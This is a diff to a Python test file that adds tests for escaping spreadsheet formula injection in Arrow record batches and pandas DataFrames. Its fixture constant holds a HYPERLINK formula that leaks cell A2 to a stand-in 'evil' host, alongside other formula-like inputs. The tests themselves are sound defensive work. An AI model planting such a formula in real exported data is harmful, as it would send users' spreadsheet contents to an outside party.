@@ -22,7 +22,7 @@ from openpyxl import load_workbook
 
 from cvm import results
 from cvm.identity.decisions import read_decisions
-from cvm.spreadsheet import formula_safe, formula_text
+from cvm.spreadsheet import formula_safe, formula_safe_frame, formula_text
 
 HYPERLINK = '=HYPERLINK("http://evil/?leak="&A2, "x")'
 #: Cells a spreadsheet evaluates (or, with a leading tab or carriage return, may evaluate).
@@ -80,6 +80,37 @@ def test_text_cells_are_quoted_and_read_back_exactly():
     assert [formula_text(v) for v in written[:-1]] == table.column("customer_id").to_pylist()[:-1]
     clean = table.select(["amount", "count", "day"])
     assert formula_safe(clean) is clean
+
+
+def test_record_batches_are_quoted_as_tables_are():
+    # the API's CSV export quotes one record batch at a time
+    batch = _table().to_batches()[0]
+    safe = formula_safe(batch)
+    assert isinstance(safe, pa.RecordBatch)
+    assert safe.schema == batch.schema
+    assert safe.column(0).to_pylist() == QUOTED + ["c1", "''=x", "'quoted", None]
+    assert safe.column(1).to_pylist() == QUOTED + ["s"] * 4
+    assert safe.column(5).to_pylist() == ["'-12.5"] * 10
+    assert safe.column(2).equals(batch.column(2))
+    clean = pa.RecordBatch.from_pydict({"id": ["c1", "c2"], "n": [1, 2]})
+    assert formula_safe(clean) is clean
+
+
+def test_pandas_frames_quote_text_and_keep_numbers():
+    import pandas as pd
+
+    frame = pd.DataFrame({
+        "customer_id": [HYPERLINK, None, "c1", 3, "'=x"],
+        "store": pd.array(["+1", None, "s", "@SUM(A1)", "-2"], dtype="string"),
+        "amount": [-12.5, 2.0, None, 4.0, -1.0],
+    })
+    safe = formula_safe_frame(frame)
+    assert safe["customer_id"].tolist() == ["'" + HYPERLINK, None, "c1", 3, "''=x"]
+    assert safe["store"].tolist() == ["'+1", pd.NA, "s", "'@SUM(A1)", "'-2"]
+    assert safe["amount"].tolist()[:2] == [-12.5, 2.0] and safe["amount"].dtype == "float64"
+    # the frame given is left as it was
+    assert frame["customer_id"].tolist() == [HYPERLINK, None, "c1", 3, "'=x"]
+    assert frame["store"].tolist()[0] == "+1"
 
 
 def test_results_csv_quotes_text_and_keeps_numbers(tmp_path, monkeypatch):
